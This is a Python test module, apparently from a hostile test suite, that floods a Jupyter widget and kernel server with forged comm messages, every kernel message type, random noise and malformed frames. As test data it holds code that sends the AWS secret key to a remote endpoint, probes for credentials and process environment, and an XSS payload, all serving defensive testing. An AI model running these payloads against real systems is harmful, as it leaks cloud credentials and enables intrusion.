"""Attacks below the widgets: comms of every registered class, other kinds of messages, and noise."""

from __future__ import annotations

import random
import uuid
from collections.abc import Iterable
from typing import Any

from tests.hostile.client import Page
from tests.hostile.counting import Tally

KNOCK = (
    "import os, urllib.request as u; "
    "u.urlopen(os.environ.get('AWS_ENDPOINT_URL', '') + '/knock?' + os.environ.get('AWS_SECRET_ACCESS_KEY', ''))"
)
"""Code that the witness would hear of."""
PEEKS = (
    "editor.connection.credentials.secret_key",
    "editor.connection.session",
    "get_ipython().user_ns",
    "__import__('os').environ['AWS_SECRET_ACCESS_KEY']",
    "open('/proc/self/environ').read",
)
TARGETS: tuple[Any, ...] = (
    "jupyter.widget",
    "jupyter.widget.version",
    "jupyter.widget.control",
    "os.system",
    "",
    None,
    7,
    [],
)
OPENINGS: tuple[Any, ...] = ({}, {"state": None}, [], "x")
NOISE: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    10**40,
    1e308,
    "",
    "update",
    "\ud800",
    "\x00",
    "x" * 5000,
    [],
    {},
    [[]],
    {"": {}},
)


FORGED: tuple[dict[str, Any], ...] = (
    {},
    {
        "value": KNOCK,
        "description": "<img src=x onerror=alert(1)>",
        "options": [KNOCK],
        "children": ["IPY_MODEL_x"],
    },
    {"layout": "IPY_MODEL_x", "style": None, "value": 10**40, "min": "x", "max": None, "_esm": KNOCK, "source": 1},
)
"""States that no front end sends."""


def every_class() -> list[dict[str, Any]]:
    """Return a state for each class that a front end can ask for."""
    from ipywidgets.widgets import widget

    found = getattr(widget, "_registry", None)
    keys = [key for key, _ in found.items()] if found is not None else list(widget.Widget.widget_types)
    names = (
        "_model_module",
        "_model_module_version",
        "_model_name",
        "_view_module",
        "_view_module_version",
        "_view_name",
    )
    return [dict(zip(names, key, strict=False)) for key in keys]


def open_comms(page: Page, tally: Tally, states: Iterable[dict[str, Any]] = FORGED) -> None:
    """Open a comm for every registered class, with forged states, and for targets that may exist."""
    states = tuple(states)
    for state in every_class():
        for more in states:
            comm = uuid.uuid4().hex
            content = {
                "comm_id": comm,
                "target_name": "jupyter.widget",
                "data": {"state": {**state, **more}, "buffer_paths": []},
            }
            page.channels.send("comm_open", content, metadata={"version": "2.1.0"})
            page.update(comm, **more)
            page.press(comm, event="click", do="submit", code=KNOCK)
            tally.tried["comms opened"] += 1
    for target in TARGETS:
        for forged in OPENINGS:
            content = {"comm_id": uuid.uuid4().hex, "target_name": target, "target_module": "os", "data": forged}
            page.channels.send("comm_open", content, metadata={"version": "99"})
            tally.tried["comms opened"] += 1


def send_other_kinds(page: Page, tally: Tally) -> None:
    """Send every kind of message that a kernel knows, on every channel, with code where it takes some."""
    kinds: dict[str, dict[str, Any]] = {
        "execute_request": {
            "code": KNOCK,
            "silent": False,
            "store_history": True,
            "user_expressions": {"x": PEEKS[3]},
            "allow_stdin": True,
            "stop_on_error": False,
        },
        "complete_request": {"code": "__import__('os').environ['AWS_SEC", "cursor_pos": 33},
        "history_request": {"hist_access_type": "range", "session": 0, "start": 0, "output": True, "raw": True},
        "is_complete_request": {"code": KNOCK},
        "connect_request": {},
        "comm_info_request": {},
        "input_reply": {"value": KNOCK},
        "apply_request": {"bound": {}},
        "abort_request": {"msg_ids": []},
        "clear_request": {},
        "create_subshell_request": {},
        "list_subshell_request": {},
        "debug_request": {"type": "request", "seq": 1, "command": "evaluate", "arguments": {"expression": KNOCK}},
        "usage_request": {},
    }
    for channel in ("shell", "control", "stdin", "iopub"):
        for kind, content in kinds.items():
            page.channels.send(kind, content, channel)
            tally.tried["messages of other kinds"] += 1
        if page.channels.broken:
            page.barrier()
        for code in PEEKS:
            for detail in (0, 1):
                content = {"code": code, "cursor_pos": len(code), "detail_level": detail}
                page.channels.send("inspect_request", content, channel)
                tally.tried["messages of other kinds"] += 1


def send_noise(page: Page, tally: Tally, count: int, seed: int = 6) -> None:
    """Send random comm messages, to widgets that are there and to none, whole and broken."""
    dice = random.Random(seed)
    models = [*page.channels.copied(), "0" * 32, "", None, 7]
    for number in range(count):
        data = _noise(dice, 0)
        comm = dice.choice(models)
        if dice.random() < 0.6:
            method = dice.choice(
                ("update", "custom", "request_state", "echo_update", "request_states", "backbone", None)
            )
            paths: Any = dice.choice(([], [["value"]], [[]], [["a", 0, "b"]], "x", None, [[None]]))
            data = {"method": method, "state": data, "content": data, "buffer_paths": paths}
        kind = dice.choice(("comm_msg",) * 8 + ("comm_open", "comm_info_request"))
        content = dice.choice(({"comm_id": comm, "data": data},) * 8 + ({"comm_id": comm}, {"data": data}, {}))
        buffers = (b"\x00" * dice.randrange(64),) if dice.random() < 0.1 else ()
        page.channels.send(kind, content, metadata=dice.choice((None, {"version": "2.1.0"})), buffers=buffers)
        tally.tried["messages of noise"] += 1
        if number % 250 == 249:
            page.barrier()


def _noise(dice: random.Random, depth: int) -> Any:
    names = ("value", "children", "state", "do", "expanded", "layout", "_esm", "busy", "path", "comm", "x")
    turn = dice.random()
    if depth > 3 or turn < 0.5:
        return dice.choice(NOISE)
    if turn < 0.75:
        return {dice.choice(names): _noise(dice, depth + 1) for _ in range(dice.randrange(4))}
    return [_noise(dice, depth + 1) for _ in range(dice.randrange(4))]


def send_broken_frames(page_channels: Any, tally: Tally) -> None:
    """Send frames that are no messages; the server may close the connection, and nothing else."""
    frames: tuple[tuple[str | bytes, bool], ...] = (
        ("", False),
        ("{", False),
        ("[]", False),
        ("null", False),
        ('{"channel": "shell"}', False),
        ('{"channel": "nowhere", "header": {}, "content": {}}', False),
        ('{"channel": "shell", "header": {"msg_type": "comm_msg"}, "content": 7}', False),
        (b"", True),
        (b"\xff" * 64, True),
        (b"\x00\x00\x00\x01\xff\xff\xff\xff", True),
    )
    for frame, binary in frames:
        tally.tried["broken frames"] += 1
        page_channels.raw(frame, binary=binary)
